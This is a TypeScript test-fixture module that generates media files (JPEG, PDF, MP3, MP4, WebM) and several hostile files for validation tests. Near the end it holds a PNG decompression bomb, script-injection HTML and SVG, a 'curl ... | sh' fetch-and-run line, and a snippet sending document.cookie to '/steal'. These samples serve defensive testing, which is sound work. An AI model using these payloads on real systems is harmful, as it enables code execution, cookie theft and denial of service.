/**
 * Media files made on this machine for tests (nothing downloaded): photos with sharp, PDFs with
 * pdf-lib, and the smallest well-formed MP3, MP4/M4A and WebM files whose headers state a known
 * duration, plus hostile files (HTML renamed .pdf, SVG, a PNG declaring 20000x20000).
 */
import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib'
import sharp from 'sharp'

/** A photo-like JPEG (smooth gradients plus noise, so it compresses like a real picture). */
export async function jpegBuffer(width = 1200, height = 800, quality = 85): Promise<Buffer> {
  const noise = await sharp({
    create: { width, height, channels: 3, background: '#000', noise: { type: 'gaussian', mean: 120, sigma: 50 } },
  })
    .png()
    .toBuffer()
  return sharp(noise).blur(2).modulate({ saturation: 1.4 }).jpeg({ quality }).toBuffer()
}

/** A PDF with the given number of pages, title and language (/Lang in the catalogue). */
export async function pdfWith({ pages = 3, title, lang }: { pages?: number; title?: string; lang?: string } = {}) {
  const pdf = await PDFDocument.create()
  const font = await pdf.embedFont(StandardFonts.Helvetica)
  for (let i = 0; i < pages; i++) pdf.addPage([300, 200]).drawText(`Page ${i + 1}`, { x: 20, y: 100, size: 14, font })
  if (title) pdf.setTitle(title)
  if (lang) pdf.catalog.set(PDFName.of('Lang'), PDFString.of(lang))
  return Buffer.from(await pdf.save())
}

/** MPEG-1 Layer III, 128 kbit/s, 44.1 kHz: 417-byte frames of 1152 samples each (silence). */
export function mp3Buffer(seconds: number): Buffer {
  const frames = Math.round((seconds * 44100) / 1152)
  const frame = Buffer.alloc(417)
  frame.writeUInt32BE(0xfffb9064, 0)
  return Buffer.concat(Array.from({ length: frames }, () => frame))
}

const box = (type: string, ...parts: Buffer[]) => {
  const body = Buffer.concat(parts)
  const head = Buffer.alloc(8)
  head.writeUInt32BE(body.length + 8, 0)
  head.write(type, 4, 'latin1')
  return Buffer.concat([head, body])
}
const u32 = (n: number) => {
  const b = Buffer.alloc(4)
  b.writeUInt32BE(n)
  return b
}

/** An ISO base media file (ftyp + moov/mvhd + empty mdat) stating `seconds` of duration. */
export function mp4Buffer(seconds: number, brand: 'isom' | 'M4A ' = 'isom', mediaBytes = 16): Buffer {
  const ftyp = box('ftyp', Buffer.from(brand, 'latin1'), u32(0x200), Buffer.from(`${brand}mp41`, 'latin1'))
  const timescale = 1000
  const mvhd = box(
    'mvhd',
    u32(0), // version 0, flags
    u32(0), // created
    u32(0), // modified
    u32(timescale),
    u32(Math.round(seconds * timescale)),
    u32(0x00010000), // rate 1.0
    Buffer.from([0x01, 0x00, 0, 0]), // volume 1.0 + reserved
    Buffer.alloc(8), // reserved
    Buffer.from([0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x40, 0, 0, 0]), // matrix
    Buffer.alloc(24), // pre-defined
    u32(2), // next track id
  )
  return Buffer.concat([ftyp, box('moov', mvhd), box('mdat', Buffer.alloc(mediaBytes))])
}

/** EBML variable-size integer for an element size. */
const vsize = (n: number) => {
  const b = Buffer.alloc(8)
  b.writeBigUInt64BE(BigInt(n) | (1n << 56n))
  return b
}
const ebml = (id: number[], body: Buffer) => Buffer.concat([Buffer.from(id), vsize(body.length), body])

/** A WebM (Matroska) file with an Info element stating `seconds` of duration. */
export function webmBuffer(seconds: number): Buffer {
  const header = ebml(
    [0x1a, 0x45, 0xdf, 0xa3],
    Buffer.concat([
      ebml([0x42, 0x86], Buffer.from([1])), // EBMLVersion
      ebml([0x42, 0xf7], Buffer.from([1])), // EBMLReadVersion
      ebml([0x42, 0xf2], Buffer.from([4])),
      ebml([0x42, 0xf3], Buffer.from([8])),
      ebml([0x42, 0x82], Buffer.from('webm')), // DocType
      ebml([0x42, 0x87], Buffer.from([4])),
      ebml([0x42, 0x85], Buffer.from([2])),
    ]),
  )
  const duration = Buffer.alloc(8)
  duration.writeDoubleBE(seconds * 1000)
  const info = ebml(
    [0x15, 0x49, 0xa9, 0x66],
    Buffer.concat([
      ebml([0x2a, 0xd7, 0xb1], u32(1_000_000)), // TimecodeScale: 1 ms
      ebml([0x44, 0x89], duration),
    ]),
  )
  const tracks = ebml(
    [0x16, 0x54, 0xae, 0x6b],
    ebml(
      [0xae],
      Buffer.concat([
        ebml([0xd7], Buffer.from([1])), // TrackNumber
        ebml([0x83], Buffer.from([1])), // TrackType video
        ebml([0x86], Buffer.from('V_VP8')),
      ]),
    ),
  )
  return Buffer.concat([header, ebml([0x18, 0x53, 0x80, 0x67], Buffer.concat([info, tracks]))])
}

const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
  return c >>> 0
})
const crc32 = (buf: Buffer) => {
  let c = 0xffffffff
  for (const byte of buf) c = crcTable[(c ^ byte) & 0xff] ^ (c >>> 8)
  return (c ^ 0xffffffff) >>> 0
}
const pngChunk = (type: string, data: Buffer) => {
  const len = u32(data.length)
  const td = Buffer.concat([Buffer.from(type, 'latin1'), data])
  return Buffer.concat([len, td, u32(crc32(td))])
}

/**
 * A decompression bomb: a few hundred bytes of PNG whose header declares width x height pixels
 * (default 20000 x 20000, 1.2 GB once decoded). The image data is a tiny compressed stream of
 * zeros, valid as far as it goes.
 */
export function pngBomb(width = 20000, height = 20000): Buffer {
  const ihdr = Buffer.concat([u32(width), u32(height), Buffer.from([8, 2, 0, 0, 0])])
  const idat = deflateSync(Buffer.alloc(64 * 1024))
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

export const htmlPage = Buffer.from(
  '<!DOCTYPE html>\n<html><head><title>Report</title></head><body><script>alert(document.cookie)</script></body></html>\n',
)
export const svgImage = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>\n',
)
export const plainSvg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>')
export const xmlDoc = Buffer.from('<?xml version="1.0" encoding="UTF-8"?>\n<report><title>Hello</title></report>\n')
export const shellScript = Buffer.from('#!/bin/sh\ncurl http://example.test/x | sh\n')
export const jsScript = Buffer.from('const x = document.cookie;\nfetch("/steal?c=" + x)\n')

export const webvtt = Buffer.from('WEBVTT\n\n00:00:00.000 --> 00:00:02.000\nDistinguished delegates.\n')
